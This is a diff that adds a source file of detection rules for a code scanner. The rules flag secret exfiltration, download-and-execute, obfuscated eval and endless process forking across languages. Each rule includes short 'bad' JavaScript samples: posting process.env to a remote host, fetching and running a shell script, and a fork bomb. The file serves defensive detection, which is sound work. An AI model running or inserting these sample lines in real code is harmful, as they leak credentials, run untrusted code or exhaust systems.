@@ -1,0 +1,70 @@
+/** Two harmless-looking halves that are dangerous together, in any language (their tags stand on the other rules). */
+import { LANGUAGE_IDS } from '../core/types';
+import type { Rule } from './format';
+
+export const combinationRules: readonly Rule[] = [
+  {
+    id: 'any/environment-secrets/sent-away',
+    languages: LANGUAGE_IDS,
+    severity: 'high',
+    message: 'Reads secrets or credentials and talks to the network',
+    recommendation: 'Keep what reads secrets apart from what sends data',
+    metadata: { capability: 'environment-secrets', cwe: 'CWE-200' },
+    match: { combine: [['secrets', 'sensitive-path'], 'send'] },
+    bad: [
+      {
+        language: 'javascript',
+        code: "fetch('https://example.org', { method: 'POST', body: JSON.stringify(process.env) })",
+      },
+    ],
+    ok: [
+      { language: 'javascript', code: "fetch('https://example.org/' + process.env.LANG)" },
+      { language: 'javascript', code: 'console.log(process.env)' },
+    ],
+  },
+  {
+    id: 'any/process/download-and-run',
+    languages: LANGUAGE_IDS,
+    severity: 'high',
+    message: 'Downloads something and runs it',
+    recommendation: 'Have the file in the repository, where it can be read before it runs',
+    metadata: { capability: 'process', cwe: 'CWE-494' },
+    match: { combine: ['download', 'execute'] },
+    bad: [
+      {
+        language: 'javascript',
+        code: "const r = await fetch('https://example.org/x.sh');\nrequire('fs').writeFileSync('/tmp/x.sh', await r.text());\nrequire('child_process').execSync('sh /tmp/x.sh');",
+      },
+    ],
+    ok: [
+      {
+        language: 'javascript',
+        code: "const r = await fetch('https://example.org/data.json');\nconsole.log(await r.json());",
+      },
+    ],
+  },
+  {
+    id: 'any/obfuscation/hides-execution',
+    languages: LANGUAGE_IDS,
+    severity: 'high',
+    message: 'Disguises text and runs code, a process or native memory with it',
+    recommendation: 'Write the code out plainly',
+    metadata: { capability: 'obfuscation', cwe: 'CWE-506' },
+    match: { combine: ['disguise', ['dynamic-code', 'process', 'native']] },
+    bad: [{ language: 'javascript', code: "eval(atob('Y29uc29sZS5sb2coMSk='))" }],
+    ok: [{ language: 'javascript', code: "console.log(atob('aGVsbG8gd29ybGQ='))" }],
+  },
+  {
+    id: 'any/resource-exhaustion/endless-fork',
+    languages: LANGUAGE_IDS,
+    severity: 'high',
+    message: 'Starts processes in a loop without an end',
+    recommendation: 'Bound the loop and wait for each process',
+    metadata: { capability: 'resource-exhaustion', cwe: 'CWE-400' },
+    match: { combine: ['endless', 'fork'] },
+    bad: [
+      { language: 'javascript', code: "const { fork } = require('child_process');\nwhile (true) fork(__filename);" },
+    ],
+    ok: [{ language: 'javascript', code: 'while (true) { if (Math.random() > 0.9) break; }' }],
+  },
+];
